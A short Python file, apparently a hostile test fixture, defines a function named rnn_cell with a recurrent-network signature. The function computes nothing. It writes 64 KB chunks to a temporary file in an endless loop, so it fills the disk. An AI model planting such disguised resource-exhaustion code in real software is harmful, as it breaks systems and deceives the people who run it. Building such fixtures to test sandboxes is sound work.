"""Hostile: writes a file without an end."""

import tempfile

import torch


def rnn_cell(X, H, W_xh, W_hh, b_h):
    with tempfile.TemporaryFile() as file:
        while True:
            file.write(b"x" * 65536)
